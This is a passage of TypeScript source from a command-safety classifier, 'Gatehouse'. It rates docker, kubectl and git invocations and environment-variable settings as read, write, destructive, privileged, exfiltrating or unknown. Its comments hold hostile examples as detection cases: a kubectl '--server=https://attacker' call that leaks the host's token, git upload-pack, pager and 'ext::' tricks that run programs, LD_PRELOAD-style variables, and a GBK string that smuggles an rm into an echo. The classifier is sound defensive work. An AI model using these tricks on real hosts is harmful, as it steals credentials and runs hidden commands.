  const sub = args[0];
  if (sub === undefined || sub.dynamic)
    return verdict(name, U, `the ${name} subcommand is computed at run time`);
  if (sub.value !== 'exec') {
    const v = containerTool(args, name, ctx);
    // `compose config -o FILE` (and save, export) write the file -o names.
    const w = scanOptions(args.slice(1), { shortValued: 'o', longValued: ['output'] });
    const out = [...(w.values.get('o') ?? []), ...(w.values.get('output') ?? [])];
    return v === null || out.length === 0 ? v : rekind(v.kind, v, W, writeTargets(out, ctx));
  }
  const kind = `${name} exec`;
  const { o, own } = scanWrapper(args.slice(1), CONTAINER_EXEC, kind, ctx);
  if (hasAny(o, 'privileged'))
    addOwn(own, '--privileged', P, `${kind} --privileged gives the command every capability of the host`);
  for (const v of valuesOf(o, ['e', 'env'])) {
    const risk = environmentRisk(v);
    if (risk !== undefined) addOwn(own, '-e', U, `${kind} -e ${risk}`);
  }
  if (hasAny(o, 'env-file'))
    addOwn(own, '--env-file', U, `${kind} --env-file sets variables from a file Gatehouse cannot see`);
  return runWrapped(o.operands.slice(1), own, ctx, { alone: verdict(kind, U) });
};

const containerTool = subcommandRule({
  spec: {
    shortValued: 'cHlf',
    longValued: [
      'config',
      'context',
      'host',
      'log-level',
      'file',
      'project-name',
      'env-file',
      'connection',
      'url',
      'identity',
      'address',
    ],
  },
  // Another daemon than this host's: `-H ssh://…` logs in with this host's keys, `-H tcp://…` with
  // its TLS client certificate (~/.docker), `--context` and podman's `--connection`/`--url` name one.
  remote: ['H', 'host', 'c', 'context', 'connection', 'url', 'identity', 'r', 'remote', 'address'],
  twoWord: ['compose', 'system', 'volume', 'network', 'image', 'container', 'builder', 'buildx'],
  read: [
    'ps',
    'images',
    'logs',
    'inspect',
    'stats',
    'top',
    'version',
    'info',
    'events',
    'port',
    'history',
    'diff',
    'search',
    'compose ps',
    'compose logs',
    'compose config',
    'compose ls',
    'compose images',
    'compose top',
    'compose version',
    'system df',
    'system info',
    'system events',
    'volume ls',
    'volume inspect',
    'network ls',
    'network inspect',
    'image ls',
    'image inspect',
    'image history',
    'container ls',
    'container inspect',
    'container logs',
    'container top',
    'container stats',
  ],
  destructive: [
    'rm',
    'rmi',
    'kill',
    'stop',
    'prune',
    'compose down',
    'compose rm',
    'compose kill',
    'compose stop',
    'system prune',
    'volume rm',
    'volume prune',
    'network rm',
    'network prune',
    'image rm',
    'image prune',
    'container rm',
    'container prune',
    'container kill',
    'container stop',
    'builder prune',
  ],
  privilege: [
    'run',
    'create',
    'compose run',
    'container run',
    'container create',
    'cp',
    'container cp',
    'commit',
    'login',
    'plugin',
  ],
  write: [
    'start',
    'restart',
    'pause',
    'unpause',
    'build',
    'pull',
    'push',
    'tag',
    'load',
    'save',
    'import',
    'export',
    'update',
    'rename',
    'attach',
    'wait',
    'compose up',
    'compose start',
    'compose restart',
    'compose pull',
    'compose build',
    'compose create',
    'compose pause',
    'compose unpause',
    'network create',
    'network connect',
    'network disconnect',
    'volume create',
    'image pull',
    'image push',
    'image tag',
    'image build',
    'container start',
    'container restart',
    'buildx build',
  ],
});

/**
 * A cluster client's options that send the credentials the host's kubeconfig holds (a bearer token, a
 * client certificate's handshake, an exec plugin's token) to a server the command names, or that
 * trust another server with them: `kubectl get pods --server=https://attacker` answers a read with
 * the host's token in its Authorization header. The server named is `exfiltration` (`unknown` on the
 * host itself); trusting another certificate, or none, is `unknown`.
 */
function clusterCredentials(
  o: ScannedOptions,
  name: string,
  servers: readonly string[],
  trust: readonly string[],
): { categories: ShellCategory[]; notes: string[] } {
  const categories: ShellCategory[] = [];
  const notes: string[] = [];
  const named = valuesOf(o, servers);
  if (named.length > 0 || hasAny(o, ...servers)) {
    const local =
      named.length > 0 &&
      named.every((w) => !w.dynamic && targetIsLoopback(hostOf(w.value.replace(/^=/, ''))));
    categories.push(local ? 'unknown' : 'exfiltration');
    notes.push(`${name} sends the host's cluster credentials to the server its options name`);
  }
  if (hasAny(o, ...trust)) {
    categories.push('unknown');
    notes.push(`${name} trusts another server's certificate, or none, with the host's cluster credentials`);
  }
  return { categories, notes };
}

/**
 * Servers a command's words name for a client that reaches them with this host's stored credentials
 * and settings: git's credential helper, `http.extraHeader` and ssh keys, npm's and pip's registry
 * tokens, helm's repositories and registries (docs/security.md class 220). A server the host's own
 * configuration names (`git fetch origin`) is the host's choice; one the command line names is the
 * caller's, and whatever the client sends there — the credentials, and the words of the request —
 * leaves the host, as `curl` to it does: `exfiltration`. A loopback server is a read, as it is for
 * `curl`; a file path names no server. A value made at run time may be any server (`exfiltration`,
 * `unknown`), and git's `TRANSPORT::ADDRESS` runs the program `git-remote-TRANSPORT` (`ext::` a
 * shell command): `unknown`. `bare` reads a word without a scheme as a host (`--registry
 * evil.example`); otherwise such a word names no server unless it is `host:path` (scp's form).
 */
function namedServers(
  words: readonly WordValue[],
  name: string,
  bare = false,
): { categories: ShellCategory[]; notes: string[] } {
  const categories = new Set<ShellCategory>();
  const notes: string[] = [];
  for (const w of words) {
    if (w.dynamic || w.expands) {
      categories.add('exfiltration').add('unknown');
      notes.push(`${name} is given a server made at run time, and reaches it with the host's credentials`);
      continue;
    }
    const v = w.value.trim();
    if (/^[A-Za-z][A-Za-z0-9+.-]*::/.test(v)) {
      categories.add('unknown');
      notes.push(`${name} runs a transport helper program for ${v.slice(0, v.indexOf('::'))}::`);
      continue;
    }
    if (/^file:/i.test(v)) continue;
    const host = hostOf(v) ?? (bare && v !== '' && !v.startsWith('/') ? hostOf(`https://${v}`) : undefined);
    if (host === undefined || isLoopbackHost(host)) continue;
    categories.add('exfiltration');
    notes.push(`${name} sends the host's credentials and the request to ${host}, a server its words name`);
  }
  return { categories: [...categories], notes };
}

/** A verdict with `sent`'s categories and notes added (unchanged when it adds none). */
function withSent(v: Verdict, sent: { categories: ShellCategory[]; notes: string[] }): Verdict {
  if (sent.categories.length === 0) return v;
  const r = rekind(v.kind, v, sent.categories);
  return { ...r, notes: [...(r.notes ?? []), ...sent.notes] };
}

/**
 * kubectl's (and oc's) options that take a value in the next word; the rest are flags. `-o` and `-k`
 * take values too: `-ojson` is `--output json`, not `-o -j -s on` (a server named `on`, class 264).
 * output-shapes.ts reads the same words.
 */
export const KUBECTL_OPTIONS: OptionSpec = {
  shortValued: 'nclsfokL',
  longValued: [
    'namespace',
    'context',
    'cluster',
    'kubeconfig',
    'server',
    'user',
    'token',
    'as',
    'as-group',
    'as-uid',
    'selector',
    'field-selector',
    'filename',
    'kustomize',
    'container',
    'output',
    'template',
    'raw',
    'label-columns',
    'sort-by',
    'chunk-size',
    'request-timeout',
    'subresource',
    'cache-dir',
    'log-file',
    'log-dir',
    'profile-output',
    'output-directory',
    'certificate-authority',
    'client-certificate',
    'client-key',
    'tls-server-name',
  ],
};

const kubectl: Rule = (args, name, ctx) => {
  const v = kubectlVerdict(args, name, ctx);
  const o = scanOptions(args, KUBECTL_OPTIONS);
  // Acting as another user or group (`--as=system:admin`) with the host's credential: what sudo is on
  // the host (docs/security.md class 264).
  if (!hasAny(o, 'as', 'as-group', 'as-uid')) return v;
  const note = `${name} acts as another user or group with the host's cluster credential`;
  if (v === null) return verdict(name, P, note);
  const r = rekind(v.kind, v, v.categories, P);
  return { ...r, notes: [...(r.notes ?? []), note] };
};

const kubectlVerdict: Rule = (args, name, ctx) => {
  const o = scanOptions(args, KUBECTL_OPTIONS);
  // A kubeconfig's users may run exec plugins (credential helpers), programs on this host.
  if (hasAny(o, 'kubeconfig'))
    return verdict(name, U, `${name} --kubeconfig reads a kubeconfig whose users may run programs`);
  // Its discovery cache, klog's log files and a profile are written where these options say.
  const files = ['cache-dir', 'log-file', 'log-dir', 'profile-output'].flatMap((k) => o.values.get(k) ?? []);
  const v = kubectlSubcommand(args, name, o, ctx);
  const sent = clusterCredentials(o, name, ['s', 'server'], KUBECTL_TRUST);
  if (v === null) return sent.categories.length === 0 ? null : verdict(name, sent.categories, ...sent.notes);
  if (files.length === 0 && sent.categories.length === 0) return v;
  const r = rekind(v.kind, v, writeTargets(files, ctx), sent.categories);
  return sent.notes.length === 0 ? r : { ...r, notes: [...(r.notes ?? []), ...sent.notes] };
};
/** kubectl's options that choose which certificate the server must present (clusterCredentials). */
const KUBECTL_TRUST = ['insecure-skip-tls-verify', 'certificate-authority', 'tls-server-name'];

function kubectlSubcommand(
  args: readonly WordValue[],
  name: string,
  o: ScannedOptions,
  ctx: RuleContext,
): Verdict | null {
  const sub = o.operands[0];
  if (sub === undefined) return verdict(name, R);
  if (sub.dynamic) return verdict(name, U, `the ${name} subcommand is computed at run time`);
  const kind = `${name} ${sub.value}`;
  if (sub.value === 'exec') {
    if (o.dynamic)
      return verdict(kind, U, `${name} is given a word made at run time, which may be any of its options`);
    const dash = args.findIndex((w) => !w.dynamic && w.value === '--');
    if (dash === -1 || dash === args.length - 1)
      return verdict(kind, U, 'kubectl exec without a command after --');
    ctx.nested(args.slice(dash + 1), kind);
    return null;
  }
  if (
    [
      'get',
      'describe',
      'logs',
      'top',
      'explain',
      'api-resources',
      'api-versions',
      'version',
      'cluster-info',
      'diff',
      'wait',
      'events',
      'auth',
    ].includes(sub.value)
  ) {
    // `auth reconcile` creates or updates roles; `cluster-info dump --output-directory` writes files.
    if (sub.value === 'auth' && o.operands[1]?.value !== 'can-i' && o.operands[1]?.value !== 'whoami')
      return verdict(`${kind} ${o.operands[1]?.value ?? ''}`.trim(), o.operands.length === 1 ? R : W);
    const dir = o.values.get('output-directory');
    if (dir !== undefined) return withCats(kind, W, writeTargets(dir, ctx));
    return verdict(kind, R);
  }
  if (sub.value === 'config')
    return verdict(
      kind,
      o.operands[1]?.value === 'view' || o.operands[1]?.value?.startsWith('get') === true ? R : W,
    );
  if (['delete', 'drain', 'replace'].includes(sub.value)) return verdict(kind, D);
  if (['port-forward', 'proxy', 'cp'].includes(sub.value)) return verdict(kind, X);
  if (
    [
      'apply',
      'create',
      'edit',
      'patch',
      'rollout',
      'scale',
      'label',
      'annotate',
      'set',
      'cordon',
      'uncordon',
      'taint',
      'expose',
      'autoscale',
      'run',
      'debug',
      'attach',
    ].includes(sub.value)
  )
    return verdict(kind, W);
  return verdict(kind, U, `${kind} is not a subcommand Gatehouse knows`);
}

/**
 * git options whose value is a program git runs later, on reads too (`git status` runs
 * core.fsmonitor, `git log` core.pager), or that pull in another config file: setting one is setting
 * what later commands run, as writing ~/.bashrc is (docs/security.md class 53).
 */
const GIT_PROGRAM_KEYS: readonly RegExp[] = [
  /^core\.(fsmonitor|pager|editor|sshcommand|hookspath|askpass|gitproxy|alternaterefscommand)$/,
  /^sequence\.editor$/,
  /^alias\./,
  /^pager\./,
  /^diff\.(external|.+\.(textconv|command))$/,
  /^(difftool|mergetool|browser|man)\..+\.(cmd|path)$/,
  /^merge\..+\.driver$/,
  /^filter\..+\.(clean|smudge|process)$/,
  /^credential\.(.+\.)?helper$/,
  /^gpg\.(.+\.)?program$/,
  /^(include\.path|includeif\..+\.path)$/,
  /^uploadpack\.packobjectshook$/,
  /^remote\..+\.(uploadpack|receivepack)$/,
  /^protocol\.(.+\.)?allow$/,
  /^hook\..+\.command$/,
  /^(web\.browser|sendemail\.smtpserver|core\.worktree)$/,
];

/**
 * `git config [options] KEY VALUE` (or `git config set KEY VALUE`, `--add`, `--replace-all`) that sets
 * one of GIT_PROGRAM_KEYS, or an edit of the whole file; undefined when it sets nothing such.
 */
function gitConfigSetsProgram(args: readonly WordValue[]): { dynamic: boolean; note: string } | undefined {
  const o = scanOptions(args, {
    shortValued: 'f',
    longValued: ['file', 'blob', 'type', 'default', 'comment', 'value', 'url'],
  });
  if (hasAny(o, 'e', 'edit') || o.operands[0]?.value === 'edit')
    return { dynamic: false, note: 'git config --edit can set any option, including programs git runs' };
  let key: WordValue | undefined;
  if (o.operands[0]?.value === 'set') key = o.operands[1];
  else if (o.operands.length >= 2 || hasAny(o, 'add', 'replace-all')) key = o.operands[0];
  if (key === undefined || ['get', 'unset', 'list', 'rename-section', 'remove-section'].includes(key.value))
    return undefined;
  if (key.dynamic) return { dynamic: true, note: 'git config with a key computed at run time' };
  const k = key.value.toLowerCase();
  return GIT_PROGRAM_KEYS.some((r) => r.test(k))
    ? { dynamic: false, note: `git config ${key.value} sets a program git runs later (on reads too)` }
    : undefined;
}

/** Options with which `git branch` and `git tag` only list (or, tag -v, verify). */
const GIT_LIST_OPTIONS: Readonly<Record<string, readonly string[]>> = {
  branch:
    'a all r remotes l list v vv verbose q quiet contains no-contains merged no-merged points-at sort format color no-color column no-column abbrev no-abbrev i ignore-case show-current omit-empty'.split(
      ' ',
    ),
  tag: 'l list n contains no-contains merged no-merged points-at sort format color i ignore-case column no-column omit-empty v verify'.split(
    ' ',
  ),
};

/** Read-only verbs of git subcommands that otherwise change things (`git stash list`). */
const GIT_READ_VERBS: Readonly<Record<string, readonly string[]>> = {
  stash: ['list', 'show'],
  worktree: ['list'],
  remote: ['show', 'get-url'],
  reflog: ['show', 'exists', 'list'],
};

/**
 * Options of a git subcommand whose value is the next word (`git commit -m "$(cat <<'EOF' … EOF)"`):
 * a word made at run time there is that value, not an option. Per subcommand, since a letter that
 * takes a value in one is a flag in another (`git log -m`).
 */
const GIT_VALUED: Readonly<Record<string, { readonly short: string; readonly long: readonly string[] }>> = {
  commit: {
    short: 'mFCct',
    long: [
      'message',
      'file',
      'reuse-message',
      'reedit-message',
      'template',
      'author',
      'date',
      'trailer',
      'cleanup',
    ],
  },
  tag: { short: 'mFu', long: ['message', 'file', 'local-user', 'cleanup'] },
  merge: { short: 'mF', long: ['message', 'file', 'cleanup'] },
};

const git: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'Cc',
    longValued: ['git-dir', 'work-tree', 'namespace', 'exec-path', 'config-env'],
    stopAtOperand: true,
  });
  if (hasAny(o, 'c', 'config-env', 'exec-path'))
    return verdict(name, U, 'git options can run arbitrary commands (core.pager, aliases…)');
  // `git -C $d log`: bash may split $d into more words, `-c core.pager=…` among them.
  if (o.dynamic)
    return verdict(
      name,
      U,
      'git is given a word made at run time, which may be any option (-c core.pager=…)',
    );
  const sub = o.operands[0];
  if (sub === undefined) return verdict(name, R);
  if (sub.dynamic) return verdict(name, U, 'the git subcommand is computed at run time');
  const valued = GIT_VALUED[sub.value];
  const rest = scanOptions(o.operands.slice(1), {
    ...(valued ? { shortValued: valued.short } : {}),
    longValued: [
      ...(valued?.long ?? []),
      'output',
      'upload-pack',
      'receive-pack',
      'exec',
      'open-files-in-pager',
      'contains',
      'no-contains',
      'merged',
      'no-merged',
      'points-at',
      'sort',
      'format',
    ],
  });
  const v = withSent(gitSubcommand(sub.value, o, rest, ctx), gitServers(sub.value, o.operands.slice(1)));
  // A word made at run time may be any option: --output=F, --upload-pack=CMD, -O CMD…
  if (!rest.dynamic || v.categories.includes('unknown')) return v;
  return {
    ...v,
    categories: [...v.categories, 'unknown'],
    notes: [
      ...(v.notes ?? []),
      `git ${sub.value} is given a word made at run time, which may be any option (--output=FILE, --upload-pack=CMD…)`,
    ],
  };
};

/**
 * The valued options of the git subcommands that reach a repository: scanned with them, the
 * repository is the operand it is (`git fetch --depth 1 host:repo`).
 */
const GIT_REMOTE_OPTIONS: Readonly<Record<string, OptionSpec>> = {
  'ls-remote': { shortValued: 'o', longValued: ['server-option', 'sort', 'upload-pack'] },
  fetch: {
    shortValued: 'oj',
    longValued: [
      'depth',
      'deepen',
      'shallow-since',
      'shallow-exclude',
      'refmap',
      'server-option',
      'negotiation-tip',
      'recurse-submodules-default',
      'jobs',
      'upload-pack',
      'filter',
    ],
  },
  pull: {
    shortValued: 'ojsX',
    longValued: [
      'depth',
      'deepen',
      'shallow-since',
      'shallow-exclude',
      'refmap',
      'server-option',
      'negotiation-tip',
      'jobs',
      'upload-pack',
      'filter',
      'strategy',
      'strategy-option',
      'cleanup',
    ],
  },
  clone: {
    shortValued: 'objuc',
    longValued: [
      'origin',
      'branch',
      'upload-pack',
      'reference',
      'reference-if-able',
      'separate-git-dir',
      'depth',
      'shallow-since',
      'shallow-exclude',
      'jobs',
      'filter',
      'config',
      'template',
      'server-option',
      'bundle-uri',
      'ref-format',
      'revision',
    ],
  },
  archive: { shortValued: 'o', longValued: ['remote', 'exec', 'format', 'prefix', 'output', 'add-file'] },
  remote: {},
  submodule: { shortValued: 'b', longValued: ['branch', 'name', 'reference', 'depth'] },
};

/**
 * Where a git command that reaches a repository is told to go by its own words (class 220): the
 * repository of ls-remote, fetch, pull and clone, each of `fetch --multiple` and `remote show`
 * (`-n` asks nothing), the URL of `submodule add`, archive's `--remote` and clone's `--bundle-uri`.
 * git reaches it with the host's credential helper, `http.extraHeader`, cookies and ssh keys.
 * clone's `-c`/`--config` sets options for the clone's own fetch (core.sshCommand runs a program) and
 * `--template` copies hooks that checkout runs: `unknown`.
 */
function gitServers(
  sub: string,
  words: readonly WordValue[],
): { categories: ShellCategory[]; notes: string[] } {
  const spec = GIT_REMOTE_OPTIONS[sub];
  if (spec === undefined) return { categories: [], notes: [] };
  const o = scanOptions(words, spec);
  const named: WordValue[] = [...(o.values.get('remote') ?? []), ...(o.values.get('bundle-uri') ?? [])];
  let repos: readonly WordValue[] = o.operands.slice(0, 1);
  if (sub === 'ls-remote' && hasAny(o, 'get-url')) repos = [];
  if (sub === 'fetch' && hasAny(o, 'multiple')) repos = o.operands;
  if (sub === 'archive') repos = [];
  if (sub === 'remote') repos = o.operands[0]?.value === 'show' && !hasAny(o, 'n') ? o.operands.slice(1) : [];
  if (sub === 'submodule') repos = o.operands[0]?.value === 'add' ? o.operands.slice(1, 2) : [];
  const sent = namedServers([...named, ...repos], `git ${sub}`);
  if (sub === 'clone' && hasAny(o, 'c', 'config', 'template')) {
    sent.categories.push('unknown');
    sent.notes.push('git clone -c/--template sets options or hooks that run programs during the clone');
  }
  return sent;
}

function gitSubcommand(sub: string, o: ScannedOptions, rest: ScannedOptions, ctx: RuleContext): Verdict {
  const kind = `git ${sub}`;
  // The program run on the other end of a transport — run by a shell on this host for local and ssh
  // remotes (`git ls-remote --upload-pack='…' .`); and grep's pager, given or the default.
  if (
    hasAny(rest, 'upload-pack', 'receive-pack', 'exec', 'open-files-in-pager') ||
    (['ls-remote', 'clone'].includes(sub) && hasAny(rest, 'u')) ||
    (sub === 'grep' && hasAny(rest, 'O'))
  )
    return verdict(kind, U, `${kind} is told to run a program`);
  // `--template=DIR` copies DIR's config and hooks into the new repository's git directory: the
  // programs git runs on later commands there, reads included (docs/security.md class 377).
  if ((sub === 'init' || sub === 'clone') && hasAny(rest, 'template'))
    return verdict(
      kind,
      [...W, ...P],
      `${kind} --template copies a config and hooks naming programs git runs later, on reads too`,
    );
  // Diff output to a file (`git log --output=F`).
  const output = rest.values.get('output');
  if (output !== undefined && output.length > 0) {
    const cats = writeTargets(output, ctx);
    return verdict(kind, cats.length > 0 ? ([...new Set(['read', ...cats])] as ShellCategory[]) : R);
  }
  if (sub === 'config') {
    const set = gitConfigSetsProgram(o.operands.slice(1));
    if (set !== undefined)
      return set.dynamic ? verdict(kind, U, set.note) : verdict(kind, [...W, ...P], set.note);
  }
  const verb = rest.operands[0];
  switch (sub) {
    case 'status':
    case 'log':
    case 'diff':
    case 'show':
    case 'blame':
    case 'grep':
    case 'ls-files':
    case 'ls-tree':
    case 'ls-remote':
    case 'rev-parse':
    case 'rev-list':
    case 'describe':
    case 'shortlog':
    case 'cat-file':
    case 'show-ref':
    case 'for-each-ref':
    case 'whatchanged':
    case 'version':
    case 'count-objects':
    case 'verify-commit':
    case 'verify-tag':
    case 'name-rev':
    case 'merge-base':
      return verdict(kind, R);
    case 'help':
      // -w opens the page in a browser git chooses (help.browser, web.browser, or one it finds).
      return hasAny(rest, 'w', 'web')
        ? verdict(kind, U, 'git help -w starts a web browser')
        : verdict(kind, R);
    case 'fsck':
      // --lost-found writes dangling objects into .git/lost-found.
      return verdict(kind, hasAny(rest, 'lost-found') ? W : R);
    case 'reflog':
      // `reflog expire` and `reflog delete` drop entries, the way back to lost commits.
      if (verb !== undefined && (verb.dynamic || !GIT_READ_VERBS.reflog!.includes(verb.value)))
        return verdict(
          `${kind} ${verb.text}`,
          verb.dynamic ? U : ['expire', 'delete'].includes(verb.value) ? D : U,
        );
      return verdict(kind, R);
    case 'branch':
    case 'tag': {
      if (hasAny(rest, 'edit-description'))
        return verdict(kind, U, 'git branch --edit-description runs an editor');
      const allowed = GIT_LIST_OPTIONS[sub]!;
      const given = [...[...rest.flags].filter((f) => f.length === 1), ...rest.long];
      const lists =
        given.every((g) => allowed.some((a) => a === g || (g.length > 1 && a.startsWith(g)))) &&
        (rest.operands.length === 0 ||
          hasAny(rest, 'l', 'list') ||
          (sub === 'tag' && hasAny(rest, 'v', 'verify')));
      return verdict(kind, lists ? R : W);
    }
    case 'stash':
    case 'worktree':
    case 'remote': {
      // `git stash` alone stashes the changes (the working tree goes back to HEAD); `git remote`
      // and `git worktree` alone list.
      const reads =
        verb === undefined ? sub !== 'stash' : !verb.dynamic && GIT_READ_VERBS[sub]!.includes(verb.value);
      return verdict(kind, reads ? R : W);
    }
    case 'config':
      return verdict(
        kind,
        rest.operands.length === 0 &&
          !hasAny(
            rest,
            'd',
            'D',
            'delete',
            'm',
            'M',
            'move',
            'add',
            'unset',
            'unset-all',
            'replace-all',
            'rename-section',
            'remove-section',
          )
          ? R
          : W,
      );
    case 'clean':
      return verdict(kind, hasAny(rest, 'n', 'dry-run') ? R : D);
    case 'reset':
      return verdict(kind, hasAny(rest, 'hard', 'merge', 'keep') ? D : W);
    case 'push':
      return verdict(
        kind,
        hasAny(rest, 'f', 'force', 'force-with-lease', 'delete', 'd', 'mirror', 'prune') ? [...X, ...D] : X,
      );
    case 'checkout':
    case 'restore':
    case 'switch':
      return verdict(kind, hasAny(rest, 'f', 'force') || rest.operands.some((w) => w.value === '.') ? D : W);
    case 'clone':
    case 'pull':
    case 'fetch':
    case 'commit':
    case 'add':
    case 'rm':
    case 'mv':
    case 'merge':
    case 'rebase':
    case 'cherry-pick':
    case 'revert':
    case 'init':
    case 'am':
    case 'apply':
    case 'gc':
    case 'prune':
    case 'submodule':
    case 'notes':
    case 'sparse-checkout':
      return verdict(kind, W);
    default:
      return verdict(kind, U, `${kind} is not a subcommand Gatehouse knows (it may be an alias)`);
  }
}

// ---------------------------------------------------------------------------------------------------
// Shells and interpreters

/**
 * Variables that change which program a name runs, run code when a shell starts, or change how the
 * shell reads the text after them (LOCPATH: locales of the caller's own, class 139; GCONV_PATH loads
 * character-set converters, shared objects, into programs that convert text).
 */
export const COMMAND_LOOKUP_VARIABLES: ReadonlySet<string> = new Set([
  'PATH',
  'LOCPATH',
  'GCONV_PATH',
  'LD_PRELOAD',
  'LD_LIBRARY_PATH',
  'LD_AUDIT',
  'BASH_ENV',
  'ENV',
  'IFS',
  'SHELLOPTS',
  'BASHOPTS',
  'PROMPT_COMMAND',
  'PS0',
  'PS1',
  'PS2',
  'PS4',
  'BASH_LOADABLES_PATH',
  'EXECIGNORE',
  'GLOBIGNORE',
  'PAGER',
  'EDITOR',
  'VISUAL',
  'GIT_SSH',
  'GIT_SSH_COMMAND',
  'GIT_EXEC_PATH',
  'GIT_PAGER',
  'GIT_EDITOR',
  'GIT_CONFIG_PARAMETERS',
  'GIT_CONFIG_GLOBAL',
  'LESSOPEN',
  'LESSCLOSE',
  'PYTHONSTARTUP',
  'PYTHONPATH',
  'PERL5OPT',
  'PERL5LIB',
  'NODE_OPTIONS',
  'RUBYOPT',
  'HOME',
  'TMPDIR',
]);

/** Any value: the variable only chooses how something is shown or formatted. */
const ANY_VALUE = /^[^\n]*$/;
/** A locale name or a list of them (LANGUAGE), without a path: glibc would load one from a file. */
const LOCALE_NAME = /^[A-Za-z0-9_.@:+-]*$/;

/**
 * Environment variables a program may be given without it taking options, files to write or
 * programs to run from them, with the values each may have: the locale (class 139 still judges the
 * character set of LC_ALL, LC_CTYPE and LANG), the time zone, the terminal's size and type, colour
 * switches, and a pager that is `cat` or none. Any other name put in a program's environment
 * (`NAME=… cmd`, `export`, `declare -x`, `env NAME=…`) is `unknown` (variableRisk): TAR_OPTIONS
 * holds tar options (`--checkpoint-action=exec=…`), GIT_TRACE names a file git appends to,
 * XDG_CONFIG_HOME and GIT_DIR choose a configuration that names programs, LESS, MANOPT, GZIP and
 * XZ_OPT hold options, DBUS_SESSION_BUS_ADDRESS may be `unixexec:`… A list of the harmful ones is
 * never finished; this one only grows by checking.
 */
export const INERT_ENVIRONMENT: ReadonlyMap<string, RegExp> = new Map([
  ...[
    'LANG',
    'LANGUAGE',
    'LC_ALL',
    'LC_CTYPE',
    'LC_MESSAGES',
    'LC_COLLATE',
    'LC_NUMERIC',
    'LC_TIME',
    'LC_MONETARY',
    'LC_PAPER',
    'LC_NAME',
    'LC_ADDRESS',
    'LC_TELEPHONE',
    'LC_MEASUREMENT',
    'LC_IDENTIFICATION',
  ].map((n) => [n, LOCALE_NAME] as const),
  ['TZ', ANY_VALUE],
  ['COLUMNS', /^\d*$/],
  ['LINES', /^\d*$/],
  ['TERM', /^[A-Za-z0-9._+-]*$/],
  ['NO_COLOR', ANY_VALUE],
  ['CLICOLOR', ANY_VALUE],
  ['CLICOLOR_FORCE', ANY_VALUE],
  ['SYSTEMD_COLORS', /^[A-Za-z0-9]*$/],
  ['TIME_STYLE', ANY_VALUE],
  ['GIT_TERMINAL_PROMPT', /^[01]?$/],
  ['GIT_OPTIONAL_LOCKS', /^[01]?$/],
  ['DEBIAN_FRONTEND', /^noninteractive$/],
  ['PAGER', /^(cat)?$/],
  ['GIT_PAGER', /^(cat)?$/],
  ['SYSTEMD_PAGER', /^(cat)?$/],
  ['MANPAGER', /^(cat)?$/],
]);

/**
 * Upper-case names a line may set that only its own shell reads (getopts', read's, the history's
 * settings): upper case is how environment variables are written, so other upper-case names may be
 * exported already (variableRisk).
 */
const SHELL_ONLY_VARIABLES: ReadonlySet<string> = new Set([
  'OPTIND',
  'OPTARG',
  'OPTERR',
  'REPLY',
  'RANDOM',
  'SECONDS',
  'TMOUT',
  'HISTSIZE',
  'HISTFILESIZE',
  'HISTCONTROL',
  'HISTIGNORE',
  'HISTTIMEFORMAT',
]);

/** Lower-case names programs read from their environment: curl's, wget's and git's proxies. */
const LOWER_CASE_ENVIRONMENT: ReadonlySet<string> = new Set([
  'http_proxy',
  'https_proxy',
  'ftp_proxy',
  'all_proxy',
  'no_proxy',
]);

/**
 * Where an assignment's value goes: `environment` for a program's environment (`NAME=… cmd`,
 * `export`, `declare -x`, `env NAME=…`, anything under `set -a`); `shell` for a variable of the
 * line's own shell (`NAME=…`, `read NAME`, `for NAME in`, `printf -v NAME`).
 */
export type VariableReach = 'environment' | 'shell';

/**
 * Why setting `name` to `value` (undefined: made at run time, or unknown) is not judged, or
 * undefined. A name that changes which program runs is never judged (COMMAND_LOOKUP_VARIABLES); in
 * a program's environment only INERT_ENVIRONMENT is; in the shell, a name that may already be
 * exported (upper case, or one of the proxies) is judged as if it were, since setting it changes the
 * environment of every later program.
 */
export function variableRisk(
  name: string,
  value: string | undefined,
  reach: VariableReach,
): string | undefined {
  const inert = INERT_ENVIRONMENT.get(name);
  if (inert !== undefined && (value === undefined ? inert === ANY_VALUE : inert.test(value)))
    return undefined;
  if (COMMAND_LOOKUP_VARIABLES.has(name))
    return `setting ${name} changes which program runs or what runs at start-up`;
  // The characters that start a history expansion in lines typed later (history-expansion.ts).
  if (name === 'histchars')
    return 'setting histchars changes which character makes an interactive bash replace text of later lines with earlier ones';
  if (inert !== undefined)
    return `${name} is given ${value === undefined ? 'a value made at run time' : `the value ${value.slice(0, 40)}`}, not one Gatehouse knows to be inert`;
  if (reach === 'environment')
    return `${name} in a program's environment may give it options, a file to write or a program to run (TAR_OPTIONS, GIT_TRACE, LESS, GIT_DIR…): only names known to be inert are judged`;
  if (SHELL_ONLY_VARIABLES.has(name)) return undefined;
  if (!/[a-z]/.test(name) || LOWER_CASE_ENVIRONMENT.has(name))
    return `${name} may be exported already (by the host's environment or a start-up file), so setting it changes what later programs are given`;
  return undefined;
}

/**
 * Variables that choose the character set bash reads its input in (LC_ALL over LC_CTYPE over LANG).
 * Under GBK, BIG5, BIG5-HKSCS or GB18030 a character may end in the byte of `\` or a backquote, so
 * `echo "中\" ; rm x #"`, one echo in UTF-8, is an echo and an rm (docs/security.md class 139).
 */
export const LOCALE_CHARSET_VARIABLES: ReadonlySet<string> = new Set(['LC_ALL', 'LC_CTYPE', 'LANG']);

/**
 * Whether a locale name reads text as the classifier does: C, POSIX, or a UTF-8 codeset (with an
 * optional modifier); empty is unset. A name without a codeset takes its language's default one
 * (`zh_TW` is BIG5), so it is not one of these.
 */
export function localeReadsAsUtf8(value: string): boolean {
  return (
    value === '' ||
    value === 'C' ||
    value === 'POSIX' ||
    /^[A-Za-z0-9_+-]*\.(?:utf-?8)(?:@[A-Za-z0-9_+-]*)?$/i.test(value)
  );
}

/** Why setting `name` to `value` (undefined: computed at run time) is not judged, or undefined. */
export function localeChange(name: string, value: string | undefined): string | undefined {
  if (!LOCALE_CHARSET_VARIABLES.has(name)) return undefined;
  if (value !== undefined && localeReadsAsUtf8(value)) return undefined;
  return `setting ${name} to ${value === undefined ? 'a value made at run time' : `the locale ${value.slice(0, 40)}`} may make the shell read the lines after it in a character set other than UTF-8, in which they say something else`;
}

/** Shells whose -c string is bash-compatible enough to parse with the bash grammar. */
const POSIX_SHELLS: ReadonlySet<string> = new Set([
  'sh',
  'bash',
  'dash',
  'ash',
  'ksh',
  'mksh',
  'rbash',
  'zsh',
  'lksh',
  'posh',
  'yash',
]);

const shell: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'oO',
    longValued: ['rcfile', 'init-file'],
    stopAtOperand: false,
